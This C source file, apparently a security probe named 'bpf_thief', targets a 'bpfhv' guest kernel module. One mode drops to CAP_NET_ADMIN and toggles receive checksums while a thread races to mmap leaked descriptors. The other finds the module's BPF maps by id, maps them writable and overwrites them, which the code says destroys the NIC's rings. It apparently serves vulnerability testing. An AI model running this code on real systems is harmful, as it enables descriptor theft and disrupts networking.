// SPDX-License-Identifier: GPL-2.0 OR MIT
/*
 * A process that looks for the descriptors and maps of the guest module.
 *
 *   bpf_thief switch INTERFACE ROUNDS   with CAP_NET_ADMIN only: switches receive checksums off and
 *                                       on, while a thread maps every descriptor that appears
 *   bpf_thief by-id                     as root: maps each context writable, and updates it
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/capability.h>
#include <linux/ethtool.h>
#include <linux/sockios.h>
#include <net/if.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#define DESCRIPTORS 32
#define PAGE 4096
#define NOBODY 65534

static atomic_bool ended;
static unsigned long scans, seen, mapped;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static void *map(int fd, int protection)
{
	return mmap(NULL, PAGE, protection, MAP_SHARED, fd, 0);
}

static void *steal(void *first)
{
	while (!atomic_load(&ended)) {
		for (int fd = *(int *)first; fd < DESCRIPTORS; fd++) {
			void *at;

			if (fcntl(fd, F_GETFD) < 0)
				continue;
			seen++;
			at = map(fd, PROT_READ | PROT_WRITE);
			if (at == MAP_FAILED)
				continue;
			mapped++;
			munmap(at, PAGE);
		}
		scans++;
	}
	return NULL;
}

static void keep_net_admin(void)
{
	struct __user_cap_header_struct header = { .version = _LINUX_CAPABILITY_VERSION_3 };
	struct __user_cap_data_struct data[2] = {
		{ .effective = 1 << CAP_NET_ADMIN, .permitted = 1 << CAP_NET_ADMIN },
	};

	if (prctl(PR_SET_KEEPCAPS, 1) || setresgid(NOBODY, NOBODY, NOBODY) ||
	    setresuid(NOBODY, NOBODY, NOBODY) || syscall(SYS_capset, &header, data))
		fail("drop privileges");
}

static void switch_rx(int fd, const char *interface, unsigned int on)
{
	struct ethtool_value value = { .cmd = ETHTOOL_SRXCSUM, .data = on };
	struct ifreq request = { .ifr_data = (void *)&value };

	strncpy(request.ifr_name, interface, IFNAMSIZ - 1);
	if (ioctl(fd, SIOCETHTOOL, &request))
		fail("SIOCETHTOOL");
}

static int switch_and_steal(const char *interface, int rounds)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0), first = fd + 1;
	pthread_t thief;

	if (fd < 0)
		fail("socket");
	for (int i = first; i < DESCRIPTORS; i++)
		close(i);
	keep_net_admin();
	if (pthread_create(&thief, NULL, steal, &first))
		fail("pthread_create");
	for (int i = 0; i < rounds; i++) {
		switch_rx(fd, interface, 0);
		switch_rx(fd, interface, 1);
	}
	atomic_store(&ended, 1);
	pthread_join(thief, NULL);
	printf("scans %lu descriptors %lu mapped %lu\n", scans, seen, mapped);
	return 0;
}

static long bpf(int command, union bpf_attr *attr)
{
	return syscall(SYS_bpf, command, attr, sizeof(*attr));
}

/* Returns a context map's descriptor, or -1 if the id is of another map. */
static int open_context(unsigned int id)
{
	union bpf_attr get = { .map_id = id }, ask = {};
	struct bpf_map_info info = {};
	int fd = bpf(BPF_MAP_GET_FD_BY_ID, &get);

	if (fd < 0)
		return -1;
	ask.info.bpf_fd = fd;
	ask.info.info_len = sizeof(info);
	ask.info.info = (unsigned long)&info;
	if (!bpf(BPF_OBJ_GET_INFO_BY_FD, &ask) && !strncmp(info.name, "bpfhv", 5))
		return fd;
	close(fd);
	return -1;
}

static int updates(int fd)
{
	static char value[1 << 20];
	unsigned int key = 0;
	union bpf_attr attr = { .map_fd = fd, .key = (unsigned long)&key,
				.value = (unsigned long)value };

	return !bpf(BPF_MAP_UPDATE_ELEM, &attr);
}

static int find_maps(void)
{
	union bpf_attr next = {};
	int found = 0, writable = 0, updated = 0;

	while (!bpf(BPF_MAP_GET_NEXT_ID, &next)) {
		int fd = open_context(next.next_id);

		next.start_id = next.next_id;
		if (fd < 0)
			continue;
		found++;
		writable += map(fd, PROT_READ | PROT_WRITE) != MAP_FAILED;
		/* The last: on success the NIC's rings are lost. */
		updated += updates(fd);
		close(fd);
	}
	printf("contexts %d writable %d updated %d\n", found, writable, updated);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "switch"))
		return switch_and_steal(argv[2], atoi(argv[3]));
	if (argc == 2 && !strcmp(argv[1], "by-id"))
		return find_maps();
	fprintf(stderr, "usage: bpf_thief switch INTERFACE ROUNDS | by-id\n");
	return 2;
}
